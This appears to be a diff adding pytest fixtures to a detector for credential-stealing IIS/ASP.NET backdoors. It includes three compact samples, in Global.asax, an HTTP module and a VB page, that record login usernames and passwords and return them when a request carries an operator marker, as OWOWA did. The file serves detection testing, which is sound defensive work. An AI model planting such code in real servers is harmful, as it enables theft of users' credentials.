@@ -208,3 +208,79 @@ BENIGN = [
 @pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
 def test_lookalike_not_reported(name: str, code: str) -> None:
     assert_benign(name, code)
+
+
+# The harvest kept in memory and handed back on demand, as OWOWA did in Outlook on the web: the
+# passwords go into the application state, the cache or a static field, and a request carrying
+# the operator's marker gets them written into its response.
+SERVED_BACK = [
+    (
+        "Global.asax",
+        '<%@ Application Language="C#" %>\n<script runat="server">\n'
+        "void Application_BeginRequest(object sender, EventArgs e) {\n"
+        "  var r = HttpContext.Current.Request;\n"
+        '  if (r.Path.EndsWith("auth.owa") && r.HttpMethod == "POST")\n'
+        '    Application["l"] = Application["l"] + r.Form["username"] + ":" + r.Form["password"] + ";";\n'
+        '  if (r.Form["username"] == "operator-marker") { Response.Write(Application["l"]); Response.End(); }\n'
+        "}\n</script>",
+        ["keeps it in the application", "Response.Write"],
+    ),
+    (
+        "OwaModule.cs",
+        "using System; using System.Web;\n"
+        "public class OwaModule : IHttpModule {\n"
+        '  static string log = "";\n'
+        "  public void Init(HttpApplication app) { app.BeginRequest += OnBegin; }\n"
+        "  void OnBegin(object s, EventArgs e) {\n"
+        "    var ctx = ((HttpApplication)s).Context;\n"
+        '    var u = ctx.Request.Form["username"]; var p = ctx.Request.Form["password"];\n'
+        '    if (u == "operator-marker") { ctx.Response.Output.Write(log); ctx.Response.End(); }\n'
+        '    else if (p != null) log += u + ":" + p + ";";\n'
+        "  }\n  public void Dispose() {}\n}",
+        ["keeps it in a static field", "Response.Write"],
+    ),
+    (
+        "logon.vb.aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\n'
+        "Shared Kept As New System.Text.StringBuilder()\n"
+        "Sub Page_Load(sender As Object, e As EventArgs)\n"
+        '  If Request.Form("passwd") <> "" Then Kept.Append(Request.Form("user") & ":" & Request.Form("passwd"))\n'
+        '  If Request.QueryString("k") = "operator-marker" Then Response.Write(Kept.ToString())\n'
+        "End Sub\n</script>",
+        ["keeps it in a static field", "Response.Write"],
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code", "words"), SERVED_BACK, ids=[s[0] for s in SERVED_BACK])
+def test_passwords_kept_for_every_request_and_served_back(name: str, code: str, words: list[str]) -> None:
+    assert_found(name, code, CAPTURE, ["form field", SENT, *words])
+
+
+@pytest.mark.parametrize(
+    ("name", "code"),
+    [
+        (  # a visitor count kept for every request and shown: no password in it
+            "counter.aspx",
+            cs_page(
+                'Application["n"] = (int)(Application["n"] ?? 0) + 1;\n'
+                'Application["last"] = Request.Form["username"];\n'
+                'Response.Write(Application["n"] + " visits, last " + Server.HtmlEncode((string)Application["last"]));'
+            ),
+        ),
+        (  # a password kept in the visitor's own session and shown back to that visitor
+            "wizard.aspx",
+            cs_page('Session["dbpwd"] = Request.Form["dbpassword"];\nResponse.Write("Saved: " + Session["dbpwd"]);'),
+        ),
+        (  # passwords cached for every request to check sign-ins faster, never written out
+            "basicauth.aspx",
+            cs_page(
+                'HttpRuntime.Cache["u:" + Request.Form["user"]] = Request.Form["password"];\n'
+                'Response.Write("signed in as " + Server.HtmlEncode(Request.Form["user"]));'
+            ),
+        ),
+    ],
+    ids=["counter", "session-wizard", "cached-not-written"],
+)
+def test_shared_values_without_a_password_served_back_stay_quiet(name: str, code: str) -> None:
+    assert_benign(name, code)
